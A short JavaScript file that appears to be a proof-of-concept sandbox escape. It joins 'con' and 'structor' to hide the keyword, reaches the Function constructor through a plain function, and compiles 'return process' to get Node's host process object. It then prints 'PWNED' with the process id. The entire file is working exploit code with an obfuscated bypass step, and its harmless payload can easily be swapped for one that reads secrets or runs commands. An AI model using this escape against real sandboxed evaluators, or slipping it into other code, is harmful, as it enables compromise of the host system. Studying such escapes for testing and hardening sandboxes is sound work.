const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
module.exports = t;
console.log('PWNED', module.exports.go(fn)('return process')().pid);
